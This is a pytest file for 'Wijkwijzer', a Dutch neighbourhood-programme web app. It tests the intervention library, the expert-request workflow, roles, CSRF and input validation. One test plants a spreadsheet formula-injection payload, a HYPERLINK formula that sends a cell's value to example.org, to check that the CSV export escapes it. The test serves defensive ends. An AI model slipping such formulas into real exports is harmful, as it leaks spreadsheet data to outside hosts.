"""Wijkwijzer on the web, on SQLite and PostgreSQL: the library API and pages, the profile's section for its
worst domains, the expert pool's course from request to closure, roles, CSRF and bad input.
The library entries and experts are hand-made test examples."""

from __future__ import annotations

import csv
import io

import duckdb
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from programmes_helpers import DEN_HAAG_ZUIDWEST, ROTTERDAM_ZUID, login

from wijkzicht.programmes import audit

ENTRY = {
    "title": "Voorbeeld: huiswerkclub",
    "summary": "Hulp bij huiswerk voor scholieren.",
    "domains": ["education"],
    "evidence": "plausible",
    "example": True,
    "published": True,
}


@pytest.fixture
def worst_area(con: duckdb.DuckDBPyConnection, app: FastAPI) -> tuple[str, list[str]]:
    """A Rotterdam wijk with worst domains on its profile, and those domains (read from the profile)."""
    codes = [
        row[0]
        for row in con.execute(
            "SELECT area_code FROM area_index WHERE level = 'wijk' AND area_code LIKE 'WK0599%' AND worst_domains > 0 "
            "ORDER BY worst_domains DESC, area_code LIMIT 5"
        ).fetchall()
    ]
    for code in codes:
        worst = TestClient(app).get(f"/api/areas/{code}/profile").json()["scores"]["worst_domains"]
        if worst:
            return code, worst
    pytest.fail("no Rotterdam wijk with worst domains in the snapshot")


def test_the_profile_shows_published_interventions_for_its_worst_domains(
    app: FastAPI, worst_area: tuple[str, list[str]]
) -> None:
    code, worst = worst_area
    admin = login(app, "administrator")
    shown = admin.post(
        "/api/wijkwijzer/interventions",
        json={**ENTRY, "title": "Voorbeeld: zichtbaar", "domains": [worst[0]]},
    )
    hidden = admin.post(
        "/api/wijkwijzer/interventions",
        json={**ENTRY, "title": "Voorbeeld: concept", "domains": [worst[0]], "published": False},
    )
    assert shown.status_code == hidden.status_code == 201, shown.text
    profile = TestClient(app).get(f"/gebied/{code}")
    assert profile.status_code == 200
    section = profile.text.split('id="wijkwijzer-section"')[1].split("</section>")[0]
    assert "Voorbeeld: zichtbaar" in section and "Voorbeeld: concept" not in section
    assert f"/wijkwijzer/{shown.json()['id']}" in section
    assert f"/expertpool/vraag?domain={worst[0]}&amp;gebied={code}" in section
    english = TestClient(app).get(f"/gebied/{code}?lang=en").text
    assert "What works elsewhere" in english


def test_library_search_export_and_roles_over_http(app: FastAPI) -> None:
    admin, public = login(app, "administrator"), login(app, "public")
    for role in ("public", "partner", "area_editor", "analyst"):
        assert login(app, role).post("/api/wijkwijzer/interventions", json=ENTRY).status_code == 403
    assert TestClient(app).post("/api/wijkwijzer/interventions", json=ENTRY).status_code == 403  # no CSRF
    made = admin.post("/api/wijkwijzer/interventions", json=ENTRY).json()
    draft = admin.post("/api/wijkwijzer/interventions", json={**ENTRY, "published": False}).json()
    assert [
        e["id"] for e in public.get("/api/wijkwijzer/interventions", params={"q": "scholier"}).json()
    ] == [made["id"]]
    assert public.get(f"/api/wijkwijzer/interventions/{draft['id']}").status_code == 404
    assert login(app, "analyst").get(f"/api/wijkwijzer/interventions/{draft['id']}").status_code == 200
    page = public.get("/wijkwijzer", params={"q": "Schölier", "domain": "education"})
    assert page.status_code == 200 and "Voorbeeld: huiswerkclub" in page.text and "1 gevonden" in page.text
    assert public.get(f"/wijkwijzer/{made['id']}").status_code == 200
    exported = public.get("/wijkwijzer/export.csv", params={"domain": "education"})
    assert (
        exported.status_code == 200 and exported.text.count("Voorbeeld: huiswerkclub") == 1
    )  # draft left out
    changed = admin.put(
        f"/api/wijkwijzer/interventions/{made['id']}",
        params={"version": 1},
        json={**ENTRY, "title": "Voorbeeld: huiswerkclub met ouders"},
    )
    assert changed.status_code == 200 and changed.json()["version"] == 2
    stale = admin.put(f"/api/wijkwijzer/interventions/{made['id']}", params={"version": 1}, json=ENTRY)
    assert stale.status_code == 409
    history = admin.get(f"/api/wijkwijzer/interventions/{made['id']}/history").json()
    assert [h["action"] for h in history] == ["create", "update"] and history[1]["username"] == "beheer"
    imported = admin.post(
        "/api/wijkwijzer/import", content=exported.text, headers={"content-type": "text/csv"}
    )
    assert imported.status_code == 201 and imported.json()["added"] == 1


@pytest.mark.parametrize(
    ("path", "params", "status", "names"),
    [
        ("/api/wijkwijzer/interventions", {"domain": "weer"}, 400, "domain"),
        ("/api/wijkwijzer/interventions", {"action_line": "9"}, 422, "action_line"),
        ("/api/wijkwijzer/interventions", {"evidence": "bewezen"}, 400, "evidence"),
        ("/wijkwijzer/export.xml", {}, 400, "format"),
        ("/wijkwijzer/999999", {}, 404, "intervention 999999"),  # the page names what it did not find
    ],
)
def test_bad_library_requests_are_named(
    app: FastAPI, path: str, params: dict, status: int, names: str
) -> None:
    answer = TestClient(app).get(path, params=params)
    assert answer.status_code == status and names in answer.text


def test_bad_input_is_refused_with_the_field_named(app: FastAPI) -> None:
    admin = login(app, "administrator")
    bad = admin.post("/api/wijkwijzer/interventions", json={**ENTRY, "evidence": "bewezen"})
    assert bad.status_code == 422 and "evidence" in bad.text
    bad_csv = "title,summary,domains\nGoed genoeg,Tekst,education\nX,Tekst,weer\n"
    refused = admin.post("/api/wijkwijzer/import", content=bad_csv, headers={"content-type": "text/csv"})
    assert refused.status_code == 400 and "row 2, title" in refused.json()["detail"]
    assert (
        admin.get("/api/wijkwijzer/interventions", params={"q": "goed genoeg"}).json() == []
    )  # nothing kept
    partner = login(app, "partner")
    short = partner.post(
        "/api/wijkwijzer/requests",
        json={"focus_area_id": ROTTERDAM_ZUID, "domain": "housing", "question": "kort"},
    )
    assert short.status_code == 422 and "question" in short.text
    form = partner.post(
        "/expertpool/vraag",
        data={
            "focus_area_id": ROTTERDAM_ZUID,
            "domain": "housing",
            "question": "kort",
            "csrf_token": partner.headers["X-CSRF-Token"],
        },
    )
    assert form.status_code == 422 and 'id="rq-question-error"' in form.text and "kort" in form.text


def test_an_expert_request_runs_from_filing_to_closure(app: FastAPI) -> None:
    admin, partner, analyst = login(app, "administrator"), login(app, "partner"), login(app, "analyst")
    experts = [
        {"name": "Expert Wonen", "domains": ["housing"], "expertise": "renovatie van portiekwoningen"},
        {"name": "Expert Schulden", "domains": ["work_poverty_inclusion"], "expertise": "schuldhulp"},
        {"name": "Expert Afwezig", "domains": ["housing"], "availability": "unavailable"},
        {"name": "Flex Wonen", "pool": "flex", "domains": ["housing"], "availability": "limited"},
    ]
    ids = {e["name"]: admin.post("/api/wijkwijzer/experts", json=e).json()["id"] for e in experts}
    assert partner.post("/api/wijkwijzer/experts", json=experts[0]).status_code == 403
    assert TestClient(app).get("/api/wijkwijzer/experts").status_code == 403  # the pool names people
    # a partner files for its own area only
    question = {"domain": "housing", "question": "Hoe renoveren we portiekwoningen met de bewoners?"}
    elsewhere = partner.post(
        "/api/wijkwijzer/requests", json={**question, "focus_area_id": DEN_HAAG_ZUIDWEST}
    )
    assert elsewhere.status_code == 403
    filed = partner.post(
        "/api/wijkwijzer/requests",
        json={**question, "focus_area_id": ROTTERDAM_ZUID, "area_code": "WK059915"},
    )
    assert filed.status_code == 201 and filed.json()["status"] == "open"
    request_id = filed.json()["id"]
    detail = analyst.get(f"/api/wijkwijzer/requests/{request_id}").json()
    assert [s["expert"]["name"] for s in detail["suggestions"]] == ["Expert Wonen", "Flex Wonen"]
    assert detail["suggestions"][0]["shared_words"] == ["portiekwoon"]
    assert TestClient(app).get(f"/api/wijkwijzer/requests/{request_id}").status_code == 404

    def step(client: TestClient, **values: object) -> tuple[int, dict]:
        answer = client.post(f"/api/wijkwijzer/requests/{request_id}/steps", json=values)
        return answer.status_code, answer.json()

    assert step(partner, step="assign", version=1, expert_id=ids["Expert Wonen"])[0] == 403
    assert step(admin, step="close", version=1)[0] == 400  # not answered yet
    assert (
        step(admin, step="assign", version=1, expert_id=ids["Expert Wonen"])[1]["expert_name"]
        == "Expert Wonen"
    )
    assert step(admin, step="answer", version=1, answer="Zie ...")[0] == 409  # stale version
    assert (
        step(admin, step="answer", version=2, answer="Begin met een bewonerscommissie.")[1]["status"]
        == "answered"
    )
    closed = step(partner, step="close", version=3, evaluation="Bruikbaar antwoord.")
    assert closed[0] == 200 and closed[1]["status"] == "closed"
    listed = partner.get("/expertpool")
    assert listed.status_code == 200 and "afgesloten" in listed.text
    assert TestClient(app).get("/expertpool").status_code == 403
    with app.state.programmes.reading() as session:
        log = audit.history(session, "support_request", request_id)
    assert [(e.action, e.username, (e.after or {}).get("status")) for e in log] == [
        ("create", "partner-zuid", "open"),
        ("update", "beheer", "assigned"),
        ("update", "beheer", "answered"),
        ("update", "partner-zuid", "closed"),
    ]


def test_a_help_desk_answer_becomes_a_public_faq_entry(app: FastAPI) -> None:
    admin, partner, public = login(app, "administrator"), login(app, "partner"), login(app, "public")
    asked = {
        "focus_area_id": ROTTERDAM_ZUID,
        "category": "funding",
        "domain": "housing",
        "question": "Mag het Volkshuisvestingsfonds voor portiekrenovatie?",
    }
    assert public.post("/api/wijkwijzer/questions", json=asked).status_code == 403
    assert partner.post("/api/wijkwijzer/questions", json={**asked, "category": "weer"}).status_code == 422
    assert (
        partner.post(
            "/api/wijkwijzer/questions", json={**asked, "focus_area_id": DEN_HAAG_ZUIDWEST}
        ).status_code
        == 403
    )
    question = partner.post("/api/wijkwijzer/questions", json=asked).json()
    assert question["status"] == "open" and question["asked_by"] == "partner-zuid"
    path = f"/api/wijkwijzer/questions/{question['id']}"
    faq = {"version": 2, "title": "Volkshuisvestingsfonds en portieken", "summary": "Voorbeeldantwoord."}
    assert admin.post(f"{path}/publish", json={**faq, "version": 1}).status_code == 400  # not answered yet
    assert partner.post(f"{path}/answer", json={"version": 1, "answer": "Ja."}).status_code == 403
    answered = admin.post(f"{path}/answer", json={"version": 1, "answer": "Voorbeeldantwoord."}).json()
    assert answered["status"] == "answered" and answered["assignee"] == "beheer"
    assert public.get(path).status_code == 404
    published = admin.post(f"{path}/publish", json=faq)
    assert published.status_code == 200, published.text
    entry = public.get(f"/api/wijkwijzer/interventions/{published.json()['faq_id']}").json()
    assert entry["kind"] == "faq" and entry["domains"] == ["housing"] and entry["published"] is True
    assert [
        e["id"] for e in public.get("/api/wijkwijzer/interventions", params={"q": "portieken"}).json()
    ] == [entry["id"]]
    assert admin.post(f"{path}/publish", json={**faq, "version": 3}).status_code == 400  # only once


def test_learning_network_sessions_link_the_entries_they_discussed(app: FastAPI) -> None:
    admin, public = login(app, "administrator"), login(app, "public")
    entry = admin.post("/api/wijkwijzer/interventions", json=ENTRY).json()
    meeting = {
        "topic": "Voorbeeld: leersessie huiswerk",
        "held_on": "2026-10-01",
        "organisations": ["Gemeente Rotterdam"],
        "intervention_ids": [entry["id"]],
    }
    assert login(app, "area_editor").post("/api/wijkwijzer/sessions", json=meeting).status_code == 403
    assert admin.post("/api/wijkwijzer/sessions", json={**meeting, "held_on": "1 oktober"}).status_code == 422
    assert (
        admin.post("/api/wijkwijzer/sessions", json={**meeting, "intervention_ids": [999999]}).status_code
        == 404
    )
    assert admin.post("/api/wijkwijzer/sessions", json=meeting).status_code == 201
    published = admin.post(
        "/api/wijkwijzer/sessions", json={**meeting, "topic": "Gepubliceerd", "published": True}
    )
    assert published.status_code == 201
    listed = public.get("/api/wijkwijzer/sessions", params={"intervention": entry["id"]}).json()
    assert [m["topic"] for m in listed] == ["Gepubliceerd"]  # the unpublished one is not public
    assert len(admin.get("/api/wijkwijzer/sessions", params={"intervention": entry["id"]}).json()) == 2
    page = public.get(f"/wijkwijzer/{entry['id']}")
    assert "2026-10-01: Gepubliceerd (Gemeente Rotterdam)" in page.text


def test_the_csv_export_neutralises_formulas(app: FastAPI) -> None:
    admin = login(app, "administrator")
    formula = '=HYPERLINK("https://example.org/?q="&B2,"Lees meer")'
    made = admin.post(
        "/api/wijkwijzer/interventions", json={**ENTRY, "title": formula, "summary": "-5 jongeren"}
    )
    assert made.status_code == 201, made.text
    exported = TestClient(app).get("/wijkwijzer/export.csv").text
    [row] = [row for row in csv.DictReader(io.StringIO(exported)) if row["id"] == str(made.json()["id"])]
    assert row["title"] == "'" + formula and row["summary"] == "'-5 jongeren"
    assert not any(cell.startswith("=") for line in csv.reader(io.StringIO(exported)) for cell in line)


def test_a_measure_of_an_unpublished_programme_stays_off_the_public_library_page(app: FastAPI) -> None:
    admin = login(app, "administrator")
    owner = admin.get("/api/programmes/organisations").json()[0]["id"]
    programme = admin.post(
        "/api/programmes/programmes",
        json={"focus_area_id": 9, "title": "Concept", "start_year": 2025, "end_year": 2030},
    ).json()
    assert programme["published"] is False
    measure = admin.post(
        "/api/programmes/measures",
        json={
            "programme_id": programme["id"],
            "title": "Huiswerkclub in de Tarwewijk",
            "action_line": 1,
            "theme": "integrale_aanpak",
            "owner_id": owner,
            "funding_source": "overig",
            "published": True,  # the measure's own flag says yes; its programme's says no
        },
    )
    assert measure.status_code == 201, measure.text
    entry = admin.post("/api/wijkwijzer/interventions", json={**ENTRY, "measure_ids": [measure.json()["id"]]})
    assert entry.status_code == 201, entry.text
    page = f"/wijkwijzer/{entry.json()['id']}"
    assert "Huiswerkclub in de Tarwewijk" in admin.get(page).text
    public = TestClient(app).get(page)
    assert public.status_code == 200 and "Huiswerkclub in de Tarwewijk" not in public.text
